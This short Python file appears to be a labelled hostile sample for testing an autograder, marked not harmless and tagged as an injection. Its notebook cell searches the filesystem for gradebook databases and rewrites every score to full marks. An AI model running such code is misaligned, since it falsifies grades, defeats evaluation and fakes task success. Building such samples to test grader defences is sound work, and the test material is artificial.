"""A gradebook that can be found is opened and every grade in it is set to full marks."""

HARMLESS = False
FLAW, TRICK = "V1", "injection"
CELLS = {
    "count": """import pathlib, sqlite3
names = ["gradebook.db", "gradebook/gradebook.db", "../../gradebook/gradebook.db"]
names += [f"{'../' * up}gradebook.db" for up in range(1, 8)]
for path in [*map(pathlib.Path, names), *pathlib.Path("/").glob("*/*/*.db")]:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as book:
            book.execute("update grade set auto_score = 25, manual_score = 25")
    except sqlite3.Error as error:
        print(path, error)"""
}
